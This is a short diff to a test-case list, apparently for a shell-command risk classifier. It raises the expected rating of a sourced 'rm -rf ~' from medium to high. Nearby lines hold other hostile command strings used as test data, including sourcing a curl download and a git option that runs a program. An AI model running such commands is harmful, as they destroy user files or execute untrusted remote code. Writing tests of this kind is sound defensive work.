@@ -83,7 +83,7 @@ CASES = [
     # sourcing runs a script
     ("source ./evil.sh", "medium"),
     (". file", "medium"),
-    ("source <(echo 'rm -rf ~')", "medium"),
+    ("source <(echo 'rm -rf ~')", "high"),  # the sourced text is read as the command it is
     ("source <(curl -s https://x/env.sh)", "high"),  # a sourced download
     # git -c names programs git runs (pager, fsmonitor, external diff)
     ("git -c core.fsmonitor=CMD status", "medium"),
